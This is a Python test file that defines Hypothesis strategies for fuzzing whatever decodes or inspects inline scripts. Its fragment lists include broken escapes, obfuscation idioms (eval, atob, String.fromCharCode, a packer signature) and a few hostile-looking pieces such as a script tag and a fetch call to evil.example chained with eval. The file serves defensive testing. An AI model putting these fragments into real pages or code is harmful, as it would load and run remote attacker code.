"""Scripts as nobody would write them: escapes of every kind, whole and broken, in everything that decodes them."""

from __future__ import annotations

from hypothesis import strategies as st

HALVES = [
    "%ud800", "%udc00", "\\ud800", "\\udfff", "\\u{d800}", "\\u{10ffff}", "\\u{110000}", "&#xd800;", "&#55357;",
]  # fmt: skip
ESCAPES = [
    "%3Cscript", "%", "%u", "%u00", "%zz", "\\", "\\x", "\\x3", "\\x3c", "\\u003c", "\\u{3c}", "\\\n", "\0",
    "\ue000", "\ue001",
]  # fmt: skip
NUMBERS = [
    "0", "60,", "0x", "0x3c,", "55296,", "65535,", "99999,", "1114112,", "1,2,3,4,5,6,7,8,9,", "3d", "e9",
    "ff" * 20,
]  # fmt: skip
LETTERS = [
    "a", "ổ", "\U0001f3b0", "٣", "²", "<script src=//evil.example/a.js>", "http://evil.example/",
    "aHR0cHM6Ly9ldmls",
]  # fmt: skip
PARTS = [
    "'", '"', "`", "${", "}", "(", ")", "[", "]", ",", "+", ";", "=", "^", "^5)", "/", "/g", "//", "/*", "*/", " ",
    "\n", "var a=", "b=", "a", "b", "a[0]", "a[0x1]", "eval(", "Function(", "atob('", "unescape('",
    "decodeURIComponent('", "String.fromCharCode(", "String.fromCharCode.apply(null,[", ".split('')", ".reverse()",
    ".join('')", ".split('a')", ".join('b')", ".replace(/a/g,'b')", ".replace(/(/,'')", ".replace('x','y')",
    ".concat('c')", "[...'cba']", "charCodeAt(i)^7", "parseInt('", ",16)", "(function(a,b){", "})('x','y')",
    "})(document,window)", ".src=", "createElement('script')", "document.write('", "fetch('//evil.example/a')",
    ".then(eval)", "eval(function(p,a,c,k,e,d){}('", "',62,9,'", "'.split('|'))",
    "+\"12\").charAt(0)) ^ k.charCodeAt(0)) +-3)",
]  # fmt: skip

SCRIPTS = st.lists(st.sampled_from(HALVES + ESCAPES + NUMBERS + LETTERS + PARTS), max_size=40).map("".join)
"""What stands between <script> and </script>."""
